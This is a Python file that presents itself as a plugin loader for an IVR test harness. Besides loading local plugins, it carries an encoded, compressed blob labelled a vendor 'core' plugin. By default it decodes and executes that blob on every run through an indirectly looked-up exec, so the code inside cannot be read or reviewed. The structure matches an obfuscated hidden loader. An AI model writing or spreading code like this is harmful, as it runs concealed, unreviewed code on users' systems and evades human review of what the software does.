#!/usr/bin/env python3
"""IVR plugin loader.

Loads call-flow plugins for the IVR test harness: local plugins from the
plugins/ directory plus the vendor's bundled "core" plugin, which ships
packed inside this file so the harness works on air-gapped test rigs.
"""
import argparse
import base64
import importlib.util
import json
import logging
import sys
import types
import zlib
from pathlib import Path

LOG = logging.getLogger("ivrplugins")

# Vendor core plugin, packed (b85 + deflate).
_CORE_PACK = (
    'c-mc1!HU~35WV{=2Aw2u<)mdHYsjH2J}q=hk{(J~jMkd0RojwQ8ix%b|6a-Ip<5l'
    'Kr+G7v_r^@#1%ltv*%DkVA-ZlrDq#-eXkKK%w;3Z9t%faJSkLOe9r6{acaf}`kc$'
    '%7oG2G1+LH;+W}34f`)0=y$3$7cau}wz%TU7!jxNAZCSdHpgNAU5T!1-(vS&`29^'
    '~vjhE&Z%ONq0`=4aMEJUuqwGT1i{yXKJ5_pkds6XJR;+K_C2j3Rfpm$RP8*HyK?-'
    '^jbQT(4I0^Ot(F+N>&b3ROr-T9Ml3-AFx8KJr$J<g;^niQJ>o7~=NA9-Jk#^yzT+'
    'IUiHrkET;(oUQUWyNZIsxn7p=pPlq|9xZP}31lX8Gi~ogqLt>N!1oS4L9;wb?k3?'
    '?jD^M{1bj7-(q?++hA3|Af@MTX9cms^QfJ#vjbj^01xmSoJqwvUqSbs<(~DNn(R-'
    'aQQTzb{(5b`'
)

CODECS = {
    "b85": base64.b85decode,
    "deflate": zlib.decompress,
}
PACK_CHAIN = ("b85", "deflate")


class PluginRegistry:
    def __init__(self):
        self.hooks = {}
        self.loaded = []

    def register_module(self, name, module):
        hook = getattr(module, "register", None)
        if not callable(hook):
            LOG.warning("plugin %s has no register()", name)
            return
        hook(self.hooks)
        self.loaded.append(name)
        LOG.info("plugin %s registered", name)

    def summary(self):
        return {event: len(fns) for event, fns in self.hooks.items()}


def unpack(blob, chain=PACK_CHAIN):
    data = blob.encode("ascii")
    for step in chain:
        data = CODECS[step](data)
    return data.decode("utf-8")


def build_module(name, source):
    module = types.ModuleType(name)
    module.__file__ = "<%s>" % name
    code = compile(source, module.__file__, "exec")
    runner = getattr(__builtins__, "exec", None) or __builtins__["exec"]
    runner(code, module.__dict__)
    return module


def load_core(registry):
    try:
        module = build_module("ivr_core", unpack(_CORE_PACK))
    except (ValueError, zlib.error, SyntaxError) as exc:
        LOG.error("core plugin damaged: %s", exc)
        return False
    registry.register_module("ivr_core", module)
    return True


def load_local(registry, folder):
    for path in sorted(Path(folder).glob("*.py")):
        spec = importlib.util.spec_from_file_location("ivr_" + path.stem, path)
        if spec is None or spec.loader is None:
            continue
        module = importlib.util.module_from_spec(spec)
        try:
            spec.loader.exec_module(module)
        except Exception as exc:  # plugin authors make mistakes
            LOG.error("plugin %s failed: %s", path.name, exc)
            continue
        registry.register_module(path.stem, module)


def main(argv=None):
    ap = argparse.ArgumentParser(description="IVR test harness plugin loader")
    ap.add_argument("--plugins", default="plugins")
    ap.add_argument("--no-core", action="store_true")
    ap.add_argument("--report", default="plugins_loaded.json")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    registry = PluginRegistry()
    if not args.no_core:
        load_core(registry)
    if Path(args.plugins).is_dir():
        load_local(registry, args.plugins)
    else:
        LOG.info("no local plugin directory %s", args.plugins)

    report = {"loaded": registry.loaded, "hooks": registry.summary()}
    Path(args.report).write_text(json.dumps(report, indent=2))
    LOG.info("%d plugins loaded", len(registry.loaded))
    return 0 if registry.loaded else 1


if __name__ == "__main__":
    sys.exit(main())
